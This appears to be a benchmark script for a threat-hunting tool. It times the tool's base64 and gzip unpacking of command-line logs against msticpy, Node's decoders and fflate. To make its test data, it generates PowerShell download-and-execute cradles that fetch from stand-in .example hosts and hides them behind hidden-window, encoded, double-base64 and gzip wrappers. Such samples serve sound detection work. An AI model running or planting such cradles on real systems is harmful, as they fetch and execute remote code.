// Unpacking: a table of command lines against msticpy, and the decoders by
// themselves against the platform's base64 and fflate's gunzip.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import { createRequire } from "node:module";
import path from "node:path";
import { gzipSync } from "node:zlib";
import { Random } from "../scripts/samples/random.mjs";
import { compare, counting, mb, perSecond, root, work } from "./measure.mjs";

const ROWS = 4000;
const BYTES = 16e6;
const crate = path.join(import.meta.dirname, "decoders");
const built = path.join(work, "decoders");

const base64 = (data) => Buffer.from(data).toString("base64");

/** A command line: every second one holds something, and what it holds differs. */
function commandLine(random, i) {
  const secret = `IEX (New-Object Net.WebClient).DownloadString('http://${random.hex(12)}.example/${random.hex(8)}.ps1')`;
  switch (i % 8) {
    case 0: return `powershell.exe -nop -w hidden -enc ${base64(Buffer.from(secret, "utf16le"))}`;
    case 2: return `cmd.exe /c echo ${base64(secret)} > C:\\Temp\\a.txt`;
    case 4: return `powershell -c "$d='${base64(base64(secret))}';iex $d"`;
    case 6: return `powershell -c "[Convert]::FromBase64String('${base64(gzipSync(secret.repeat(8)))}')"`;
    default: return `"C:\\Program Files\\Vendor\\Product\\bin\\service.exe" --config "C:\\ProgramData\\Vendor\\${random.hex(8)}.json" --session ${random.hex(32)}`;
  }
}

/** Builds the decoders as this project's crate is built. */
function buildDecoders() {
  fs.mkdirSync(built, { recursive: true });
  fs.copyFileSync(path.join(root, "Cargo.lock"), path.join(crate, "Cargo.lock"));
  execFileSync("cargo", ["build", "--quiet", "--release", "--target", "wasm32-unknown-unknown"], { cwd: crate, stdio: ["ignore", "ignore", "inherit"], env: { ...process.env, CARGO_TARGET_DIR: path.join(built, "target") } });
  // This project's own files are modules; what wasm-bindgen writes for Node is not.
  fs.writeFileSync(path.join(built, "package.json"), `{ "type": "commonjs" }`);
  execFileSync("wasm-bindgen", ["--target", "nodejs", "--out-dir", built, "--out-name", "decoders", path.join(built, "target/wasm32-unknown-unknown/release/decoders.wasm")], { stdio: "inherit" });
  const bound = path.join(built, "decoders_bg.wasm");
  execFileSync(path.join(root, "node_modules/.bin/wasm-opt"), ["-O3", bound, "-o", bound], { stdio: "inherit" });
}

const decoders = () => createRequire(import.meta.url)(path.join(built, "decoders.js"));
const text = (bytes) => new TextDecoder("latin1").decode(bytes);

const unpacking = (worker) => counting(worker, (hb, table) => hb.unpackBase64(table, { columns: ["CommandLine"] }), (hb, bytes) => hb.read(bytes, { format: "ndjson" }));

/** The platform's own decoder: newer ones have `Uint8Array.fromBase64`. */
export const platform = Uint8Array.fromBase64 ? "Uint8Array.fromBase64" : "Buffer.from";

export const contenders = {
  huntbook: unpacking(true),
  "huntbook without a worker": unpacking(false),
  "base64, string to array": (bytes) => {
    const [{ fromBase64 }, source] = [decoders(), text(bytes)];
    return () => fromBase64(source).length;
  },
  "base64, found text": (bytes) => {
    const held = new (decoders().Held)(bytes);
    return () => held.decode();
  },
  "Uint8Array.fromBase64": (bytes) => {
    const source = text(bytes);
    return () => Uint8Array.fromBase64(source).length;
  },
  "Buffer.from": (bytes) => {
    const source = text(bytes);
    return () => Buffer.from(source, "base64").length;
  },
  gunzip: (bytes) => {
    const { gunzip } = decoders();
    return () => gunzip(bytes).length;
  },
  fflate: async (bytes) => {
    const { gunzipSync } = await import("fflate");
    return () => gunzipSync(bytes).length;
  },
};

/** Unpacking of a column, rows in, rows out. */
function table(report, hasPython) {
  const random = new Random("unpack");
  const file = path.join(work, "command-lines.ndjson");
  const lines = Array.from({ length: ROWS }, (_, i) => JSON.stringify({ CommandLine: commandLine(random, i) }));
  fs.writeFileSync(file, `${lines.join("\n")}\n`);
  const results = compare("unpack", ["huntbook", "huntbook without a worker"], file, { peers: hasPython ? ["msticpy-unpack"] : [] });
  const rate = ({ seconds }) => `${Math.round(ROWS / seconds).toLocaleString("en")} rows/s`;
  const row = (name, against, goal) => report.add({
    what: `unpacking ${ROWS} command lines, half of them encoded, with hashes`, against, ours: rate(results.huntbook), theirs: rate(results[name]), ratio: results[name].seconds / results.huntbook.seconds, ...goal,
  });
  if (hasPython) row("msticpy-unpack", "msticpy 3.0.2, base64unpack.unpack_df", { atLeast: 100 });
  row("huntbook without a worker", "huntbook without a worker");
}

export async function run(report, { hasPython }) {
  table(report, hasPython);
  buildDecoders();
  const random = new Random("decoders");
  const plain = path.join(work, "base64.txt");
  const source = Buffer.from(random.hex(BYTES), "latin1");
  fs.writeFileSync(plain, base64(source));
  const { size } = fs.statSync(plain);
  const decoded = compare("unpack", ["base64, found text", "base64, string to array", platform], plain);
  const base64Row = (name, what, goal) => report.add({
    what: `${what}, ${mb(size)}`, against: platform, ours: perSecond(size, decoded[name]), theirs: perSecond(size, decoded[platform]), ratio: decoded[platform].seconds / decoded[name].seconds, ...goal,
  });
  base64Row("base64, found text", "base64 of a text that was found", { atLeast: 1 });
  base64Row("base64, string to array", "base64 of a string to an array");

  const zipped = path.join(work, "log.gz");
  const log = Array.from({ length: BYTES / 160 }, (_, i) => commandLine(random, i)).join("\n");
  fs.writeFileSync(zipped, gzipSync(log));
  const inflated = compare("unpack", ["gunzip", "fflate"], zipped);
  report.add({
    what: `gunzip of a log of ${mb(log.length)}`, against: "fflate 0.8", ours: perSecond(log.length, inflated.gunzip), theirs: perSecond(log.length, inflated.fflate), ratio: inflated.fflate.seconds / inflated.gunzip.seconds, atLeast: 2,
  });
  if (platform !== "Uint8Array.fromBase64") report.note("This Node has no Uint8Array.fromBase64, so that base64 is held against Buffer.from, which has the same decoder (simdutf).");
}
